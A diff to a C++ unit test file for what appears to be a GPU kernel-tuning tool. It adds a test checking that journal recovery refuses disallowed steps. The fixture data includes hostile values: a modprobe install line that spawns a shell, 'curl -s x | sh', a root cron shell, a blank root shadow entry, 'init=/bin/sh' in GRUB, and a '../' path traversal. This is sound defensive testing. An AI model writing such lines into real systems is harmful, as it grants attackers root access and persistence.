@@ -11,7 +11,9 @@
 #include <gtest/gtest.h>
 
 #include "detect/inventory.h"
+#include "helper/allow_list.h"
 #include "helper/journal_writer.h"
+#include "knobs/env_backend.h"
 #include "journal/journal.h"
 #include "knowledge/catalog.h"
 #include "plan/planner.h"
@@ -140,6 +142,77 @@ TEST_F(ExecutorTest, APlanRunsOnlyOnTheRootItWasMadeFor) {
   EXPECT_EQ(Run(p).status, Status::kCommitted) << "the root it was made for";
 }
 
+// A journal is a file in the tree (in a --root tree, the tree owner's). Recovery asked for what
+// no plan may do refuses each such step, says so, still undoes the rest, and ends the transaction.
+TEST_F(ExecutorTest, RecoveryRefusesEveryStepNoPlanMayTake) {
+  const std::string grub = Read("etc/default/grub");
+  ASSERT_NE(grub.find("GRUB_CMDLINE_LINUX_DEFAULT="), std::string::npos);
+  std::string grub_with_init = grub;
+  grub_with_init.replace(grub.find("GRUB_CMDLINE_LINUX_DEFAULT=\"") + 28, 0, "init=/bin/sh ");
+  Write("etc/shadow", "root:secret:::\n");
+  Write(std::string(knobs::kEnvironmentDropIn), "HIP_VISIBLE_DEVICES=0\n");
+  tree_.Mkdir("w/srv");
+  auto op = [](plan::OpKind kind, std::string backend, std::string path, std::optional<std::string> before,
+               std::optional<std::string> after) {
+    plan::Op o;
+    o.kind = kind;
+    o.backend = std::move(backend);
+    o.path = std::move(path);
+    o.before = std::move(before);
+    o.after = std::move(after);
+    return o;
+  };
+  journal::Transaction txn;
+  txn.number = 1;
+  txn.id = "1";
+  txn.time = "2026-11-23T00:00:00Z";
+  txn.intent = {"set", "", {"amdgpu.noretry=0"}, "", {}};
+  txn.ops = {
+      op(plan::OpKind::kRemoveFile, "modprobe", kConf, "install amdgpu /bin/sh -c 'id > /pwned'\n", std::nullopt),
+      op(plan::OpKind::kRemoveFile, "env", std::string(knobs::kProfileDropIn), "curl -s x | sh\n", std::nullopt),
+      op(plan::OpKind::kRemoveFile, "modprobe", "etc/cron.d/rocmtune", "* * * * * root sh\n", std::nullopt),
+      op(plan::OpKind::kWriteSysfs, "sysfs", "etc/shadow", "root::::\n", "x"),
+      op(plan::OpKind::kWriteFile, "cmdline", "etc/default/grub", grub_with_init, grub),
+      op(plan::OpKind::kWriteFile, "cmdline", "etc/default/grub.d/../../shadow", std::nullopt, "x"),
+      op(plan::OpKind::kWriteFile, "env", std::string(knobs::kEnvironmentDropIn), std::nullopt, "HIP_VISIBLE_DEVICES=0\n"),
+  };
+  plan::Op regen = op(plan::OpKind::kRegenerate, "initramfs", "update-initramfs", std::nullopt, std::nullopt);
+  regen.argv = {"/bin/sh", "-c", "touch /pwned"};
+  txn.ops.push_back(regen);
+  Write(std::string(journal::kJournalDir) + "/" + journal::JournalFileName(1),
+        journal::BeginRecord(txn).dump() + "\n" + journal::MkdirRecord("srv").dump() + "\n");
+
+  sys::Root root = Root();
+  NoHooks hooks;
+  Outcome out = Executor(root, hooks).Recover({false, true});
+  ASSERT_EQ(out.status, Status::kUnchanged) << Messages(out);
+  EXPECT_EQ(out.recovered, std::vector<std::string>{"1"});
+  std::string messages = Messages(out);
+  EXPECT_THAT(messages, ::testing::HasSubstr("owned-file-grammar")) << "modprobe.d install line";
+  EXPECT_THAT(messages, ::testing::HasSubstr("path-not-allowed")) << "etc/cron.d";
+  EXPECT_THAT(messages, ::testing::HasSubstr("sysfs-device")) << "a \"sysfs\" write to etc/shadow";
+  EXPECT_THAT(messages, ::testing::HasSubstr("kernel-token")) << "init=/bin/sh back into GRUB";
+  EXPECT_THAT(messages, ::testing::HasSubstr("path-syntax")) << "..";
+  EXPECT_THAT(messages, ::testing::HasSubstr("srv: path-not-allowed")) << "rmdir of a directory not on the way";
+  EXPECT_FALSE(fs::exists(Path(kConf)));
+  EXPECT_FALSE(fs::exists(Path(knobs::kProfileDropIn)));
+  EXPECT_FALSE(fs::exists(Path("etc/cron.d/rocmtune")));
+  EXPECT_EQ(Read("etc/shadow"), "root:secret:::\n");
+  EXPECT_EQ(Read("etc/default/grub"), grub);
+  EXPECT_TRUE(fs::is_directory(Path("srv")));
+  EXPECT_FALSE(fs::exists(Path(knobs::kEnvironmentDropIn))) << "the one legitimate step is still undone";
+  auto txns = Journal();
+  ASSERT_EQ(txns.size(), 1u);
+  EXPECT_EQ(txns[0].state, journal::State::kRolledBack);
+  EXPECT_THAT(txns[0].rollback_reason, ::testing::HasSubstr("refused by the allow-list"));
+  Outcome again = Executor(root, hooks).Recover({false, true});
+  EXPECT_EQ(again.status, Status::kUnchanged);
+  EXPECT_TRUE(again.recovered.empty()) << "ended once, not every run";
+
+  // The regenerator step, checked as a live root would run it.
+  EXPECT_FALSE(UndoOp(root, detect::Detect(root), regen, std::nullopt));
+}
+
 TEST_F(ExecutorTest, StaleBeforeIsAConflictAndNothingIsWritten) {
   plan::Plan p = PlanSet({"amdgpu.noretry=0", "cmdline.iommu=pt"});
   Write(kGrubDropIn, "# written after the plan was made\n");
@@ -239,7 +312,10 @@ TEST_F(ExecutorTest, RecoverRollsBackAnIncompleteTransaction) {
   t.time = "2025-01-01T00:00:00Z";
   t.intent = {"set", "", {"amdgpu.noretry=0"}, "", {}};
   plan::Op conf{plan::OpKind::kWriteFile, "modprobe", kConf, std::nullopt, "options amdgpu noretry=0\n", {}, "r"};
-  plan::Op grub{plan::OpKind::kWriteFile, "cmdline", "etc/default/grub", grub_before, grub_before + "# x\n", {}, "r"};
+  // An edit a plan may make (one token on the command line), so undoing it passes the allow-list.
+  std::string grub_after = grub_before;
+  grub_after.replace(grub_after.find("quiet splash"), 12, "quiet splash iommu=pt");
+  plan::Op grub{plan::OpKind::kWriteFile, "cmdline", "etc/default/grub", grub_before, grub_after, {}, "r"};
   t.ops = {conf, grub};
   {
     auto journal = JournalWriter::Create(root, hooks, 1);
